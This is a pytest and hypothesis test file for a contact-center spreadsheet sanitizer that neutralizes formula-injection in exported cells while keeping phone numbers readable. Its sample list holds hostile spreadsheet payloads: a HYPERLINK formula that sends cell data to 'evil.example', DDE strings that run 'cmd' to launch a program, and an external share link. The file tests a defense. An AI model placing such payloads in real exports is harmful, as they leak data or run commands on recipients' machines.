"""Cells of what leaves the platform: no formula, readable telephone numbers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contact_center.core import spreadsheets

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"veja")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+55 31 98888-7777=HYPERLINK(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tnome",
    "   =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＠SUM(A1)",
    "{=SUM(A1:A9)}",
    "external:\\\\evil\\share.xlsx",
    "Internal:Sheet1!A1",
    "+",
    "-",
    "- item",
    "+A1",
    "-A1+B1",
)
READABLE = (
    "+5531988887777",
    "+55 31 98888-7777",
    "+55 (31) 98888-7777",
    "-12,50",
    "-12.50",
    "+1-800-555-0199",
    "-19.8157, -43.1738",
    "(31) 3333-4444",
    "31 98888-7777",
    "Maria = João",
    "maria@example.org",
    "a-b",
    "10/11/2026",
    "https://prefeitura.example/",
    "",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe(text):
    assert spreadsheets.cell(text) == f"'{text}"


@pytest.mark.parametrize("text", READABLE)
def test_what_people_read_stays_as_it_is(text):
    assert spreadsheets.cell(text) == text


@given(st.text(), st.sampled_from("=@\t\r\n"))
def test_nothing_that_begins_so_is_left_alone(text, start):
    assert spreadsheets.cell(start + text).startswith("'")


@given(st.text(), st.sampled_from("+-"))
def test_a_sign_is_left_alone_before_nothing_but_a_number(text, start):
    made = spreadsheets.cell(start + text)
    assert made.startswith("'") or not any(char.isalpha() or char in "=|!" for char in made)


@given(st.text())
def test_the_text_itself_is_never_changed(text):
    assert spreadsheets.cell(text) in (text, f"'{text}")


def test_json_values_are_made_harmless_inside():
    value = {"=key": ["=1", 2, None, {"title": "@x"}], "n": -1.5, "t": ("=1",)}
    assert spreadsheets.cells(value) == {
        "=key": ["'=1", 2, None, {"title": "'@x"}],
        "n": -1.5,
        "t": ("'=1",),
    }
